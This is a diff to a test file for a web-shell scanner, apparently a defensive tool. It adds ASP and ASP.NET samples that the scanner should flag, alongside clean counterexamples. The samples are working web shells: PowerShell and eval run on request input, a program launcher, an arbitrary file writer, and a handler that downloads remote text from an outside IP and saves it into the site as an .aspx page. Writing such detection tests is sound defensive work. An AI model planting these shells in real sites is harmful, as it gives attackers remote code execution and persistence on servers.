@@ -73,6 +73,8 @@ describe('scan: JSP and ASP shapes of session 22, samples of our own', () => {
     ['PowerShell run from a TextBox', '/www/p.aspx', `<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation.Runspaces" %><script runat="server">void Go(object s, EventArgs e) { var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline(); p.Commands.AddScript(Script.Text); p.Commands.Add("Out-String"); Output.Text = p.Invoke()[0].ToString(); }</script><form runat="server"><asp:TextBox ID="Script" runat="server"/><asp:Button OnClick="Go" runat="server"/><asp:Literal ID="Output" runat="server"/></form>`],
     ['a file written where one TextBox says with what another holds', '/www/w.aspx', `<%@ Page Language="C#" %><script runat="server">void Save(object s, EventArgs e) { var w = new System.IO.StreamWriter(this.PathBox.Text, true); w.Write(this.BodyBox.Text); w.Close(); }</script>`],
     ['Shell.Application starting the program the form names', '/www/s.asp', `<%\nprog = Request.Form("p")\nargs = Request.Form("a")\nIf prog <> "" Then\nSet sh = CreateObject("Shell.Application")\nsh.ShellExecute prog, args, "", "open", 0\nEnd If\n%>`],
+    ['a VBScript function that evaluates its argument, given the request', '/www/f.asp', `<!-- notes -->\n<%Function run(code) eval code End Function%><%d = Request("k")%><%run d%>`],
+    ['an ASP.NET handler downloading a page into the site', '/www/d.ashx', `<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web; using System.IO; using System.Net;\npublic class H : IHttpHandler { public bool IsReusable { get { return false; } }\npublic void ProcessRequest(HttpContext c) { string t; using (var w = new WebClient()) { t = w.DownloadString("https://198.51.100.7/p.txt"); } var f = File.CreateText(c.Server.MapPath("cache.aspx")); f.Write(t); f.Close(); } }`],
     ['JScript handing eval around and giving it the request', '/www/j.asp', `<%@LANGUAGE="JScript"%>\n<% function pick(x) { return x ? Request.Form("z") + "" : eval; } pick(0)(pick(1)); %>`],
   ];
   for (const [name, path, src] of cases) {
@@ -88,6 +90,10 @@ describe('scan: JSP and ASP shapes of session 22, samples of our own', () => {
       ['/www/cfg.aspx', `<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { var c = System.Web.Configuration.WebConfigurationManager.OpenWebConfiguration("~"); var kv = Entry.Text.Split(':'); c.AppSettings.Settings.Remove(kv[0]); c.AppSettings.Settings.Add(kv[0], kv[1]); c.Save(); }</script>`],
     ];
     for (const [path, src] of pages) assert.equal(scan(src, path).verdict, 'suspicious', path);
+  });
+  it('clean: an ASP.NET page saving a downloaded feed as XML, a VBScript helper that formats its argument', () => {
+    assert.equal(scan(`<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { using (var w = new System.Net.WebClient()) { System.IO.File.WriteAllText(Server.MapPath("~/App_Data/feed.xml"), w.DownloadString("https://example.org/feed")); } }</script>`, '/www/feed.aspx').verdict, 'clean');
+    assert.equal(scan(`<%Function show(s) Response.Write Server.HTMLEncode(s) End Function%><%show Request("q")%>`, '/www/show.asp').verdict, 'clean');
   });
   it('clean: a JSP reading serialized objects from its own file, an ASPX log written to a fixed path', () => {
     assert.equal(scan(`<%@ page import="java.io.*" %><% ObjectInputStream in = new ObjectInputStream(new FileInputStream(application.getRealPath("/WEB-INF/cache.ser"))); Object o = in.readObject(); out.print(request.getParameter("q") == null ? "" : "ok"); %>`, '/www/ok.jsp').verdict, 'clean');
